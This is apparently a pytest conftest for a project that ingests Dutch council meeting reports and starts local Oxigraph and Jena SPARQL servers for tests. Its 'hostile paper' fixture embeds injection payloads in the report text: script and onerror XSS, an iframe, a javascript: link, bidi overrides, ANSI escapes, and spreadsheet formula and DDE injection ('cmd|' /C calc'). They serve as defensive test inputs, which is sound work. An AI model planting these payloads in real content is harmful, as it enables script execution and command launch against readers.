"""For tests on several floors: a paper whose words are hostile, and engines behind an address.

The engines are the server of Oxigraph, from PyPI, and Apache Jena, from Debian's
libapache-jena-java; where Jena is missing the tests that need it are skipped, with the reason.
"""

import os
import shutil
import socket
import subprocess
import sys
import zipfile
from collections.abc import Callable, Iterator, Mapping
from contextlib import AbstractContextManager, ExitStack, contextmanager
from pathlib import Path
from time import sleep

import httpx
import pytest

HTML = '<img src=x onerror="document.title=\'owned\'"><script>document.title="owned"</script>'
FRAME = '<style>*{display:none}</style><iframe srcdoc="<p>owned</p>"></iframe>'
MARKDOWN = "![pixel](https://example.org/pixel.png) [knop](javascript:alert(1)) :red[rood] $x^2$"
BIDI = "\u202etsuj niet\u202c \u2066los\u2069"
CONTROLS = "\x01\x1b[31m\x7f\x9b\ufffe"
AS_READ = "\ufffd\ufffd[31m\ufffd\ufffd\ufffd"  # what reading makes of the controls
FORMULA = '=HYPERLINK("http://example.org/?x="&A1;klik)'
PAPER = f"""\
Verslag van de informele JBZ-Raad van 22 en 23 januari 2026

1. =SUM(A1:A9) Terugkeer {HTML} van {MARKDOWN} {BIDI}

Nederland steunt {HTML} de voorstellen over terugkeer.
Meerdere lidstaten steunden {MARKDOWN} het plan.
Duitsland vroeg om {BIDI} strengere controles bij {CONTROLS} de grens.
Frankrijk was tegen {FRAME} het actieplan.
Polen pleitte voor {FORMULA} extra middelen.

2. Politie

@SUM(1) Nederland steunde de +1+cmd|' /C calc'!A0 aanpak van Europol.
"""


def pytest_collection_modifyitems(items: list[pytest.Item]) -> None:
    """The longest files first: at the end no worker waits for one that has just begun with them."""
    items.sort(key=lambda item: item.get_closest_marker("long") is None)


@pytest.fixture(scope="session")
def hostile_words() -> Mapping[str, str]:
    """What the hostile paper says, by kind."""
    return {
        "html": HTML,
        "frame": FRAME,
        "markdown": MARKDOWN,
        "bidi": BIDI,
        "controls": AS_READ,
    }


@pytest.fixture(scope="session")
def hostile_text() -> str:
    """The text of the hostile paper as it is read."""
    return PAPER.replace(CONTROLS, AS_READ)


@pytest.fixture(scope="session")
def hostile_paper(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A report of a meeting with payloads in its heading and in its sentences."""
    path = tmp_path_factory.mktemp("hostile-paper") / "verslag.txt"
    path.write_bytes(PAPER.encode())
    return path


@pytest.fixture(scope="session")
def hostile_paper_store(hostile_paper: Path) -> Path:
    """A store with the hostile paper; nobody writes to it."""
    store = hostile_paper.with_name("store")
    command = [sys.executable, "-m", "standpunt", "ingest", str(hostile_paper)]
    environment = {k: v for k, v in os.environ.items() if k != "STANDPUNT_STORE"}
    subprocess.run(
        [*command, "--meeting", "JHA/2026-01-22", "--store", str(store)],
        env=environment,
        capture_output=True,
        timeout=120,
        check=True,
    )
    return store


# --- engines behind an address -------------------------------------------------------------------

JARS = Path("/usr/share/java")
SERVER = Path(__file__).parent / "engines" / "JenaServer.java"
NAMES = (
    "jena-arq", "jena-core", "jena-base", "jena-iri", "dexx.collection", "protobuf", "thrift",
    "commons-csv", "commons-compress", "commons-codec", "commons-io", "commons-lang3", "guava",
    "httpclient", "httpcore", "jsonld-java", "titanium-json-ld", "jakarta.json-api", "gson",
    "jackson-core", "jackson-databind", "jackson-annotations", "slf4j-api", "slf4j-nop",
    "commons-cli", "failureaccess",
)  # fmt: skip
# Debian moved the classes of Jena's XML Schema parser and left its messages where they were.
MOVED = "org/apache/jena/ext/"


@contextmanager
def serving(command: list[str], messages: Path) -> Iterator["subprocess.Popen[bytes]"]:
    """A server with its messages in a file, killed at the end."""
    with messages.open("wb") as log:
        server = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=log)
        try:
            yield server
        finally:
            server.kill()
            server.communicate()


@contextmanager
def serve_oxigraph(folder: Path) -> Iterator[str]:
    """The address of Oxigraph with an empty dataset, served as long as the context lasts."""
    program = Path(sys.executable).with_name("oxigraph")
    with socket.create_server(("127.0.0.1", 0)) as free:
        port = free.getsockname()[1]
    command = [str(program), "serve", "--bind", f"127.0.0.1:{port}"]
    messages = folder / "oxigraph.log"
    with serving(command, messages) as server:
        while True:
            try:
                httpx.get(f"http://127.0.0.1:{port}/query").close()
                break
            except httpx.ConnectError:
                assert server.poll() is None, messages.read_text("utf-8")
                sleep(0.02)
        yield f"http://127.0.0.1:{port}"


def missing() -> str:
    """What is not installed; "" if Jena can be started."""
    if not (JARS / "jena-arq.jar").exists():
        return "Apache Jena is missing (Debian: apt-get install libapache-jena-java)"
    if shutil.which("java") is None or shutil.which("javac") is None:
        return "a JDK is missing (Debian: apt-get install default-jdk-headless)"
    return ""


@contextmanager
def serve_jena(folder: Path, *options: str) -> Iterator[str]:
    """The address of Jena with an empty dataset, served as long as the context lasts."""
    messages = folder / "messages"
    with zipfile.ZipFile(JARS / "jena-core.jar") as jar:
        for name in jar.namelist():
            if name.startswith(MOVED) and name.endswith(".properties"):
                target = messages / name.removeprefix(MOVED)
                target.parent.mkdir(parents=True, exist_ok=True)
                target.write_bytes(jar.read(name))
    classes = ":".join([str(messages), *(str(JARS / f"{name}.jar") for name in NAMES)])
    flags = ["-Xmx512m", "-Dsun.net.httpserver.nodelay=true", "-cp", classes]
    with serving(["java", *flags, str(SERVER), *options], folder / "jena.log") as server:
        assert server.stdout is not None
        port = server.stdout.readline().decode().strip()
        assert port.isdecimal(), (folder / "jena.log").read_text("utf-8")
        yield f"http://127.0.0.1:{port}/ds"


@pytest.fixture(scope="session")
def jena(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Callable[..., str]]:
    """Gives the address of Jena with these options, started once; its dataset is emptied."""
    with ExitStack() as servers:
        addresses: dict[tuple[str, ...], str] = {}

        def address_of(*options: str) -> str:
            if why := missing():
                pytest.skip(why)
            if options not in addresses:
                folder = tmp_path_factory.mktemp("jena")
                addresses[options] = servers.enter_context(serve_jena(folder, *options))
            elif not options or options[0] == "union":
                httpx.post(f"{addresses[options]}/update", content="DROP ALL").raise_for_status()
            return addresses[options]

        yield address_of


@pytest.fixture(scope="session")
def engine_at(
    jena: Callable[..., str], tmp_path_factory: pytest.TempPathFactory
) -> Callable[[str], AbstractContextManager[str]]:
    """Gives the address of an engine for a while: oxigraph, jena or jena-union.

    Its dataset is empty. What is still running there at the end is ended.
    """

    @contextmanager
    def at(engine: str) -> Iterator[str]:
        if engine == "oxigraph":
            with serve_oxigraph(tmp_path_factory.mktemp(engine)) as address:
                yield address
        else:
            address = jena(*engine.split("-")[1:])
            yield address
            httpx.post(f"{address}/stop").raise_for_status()

    return at
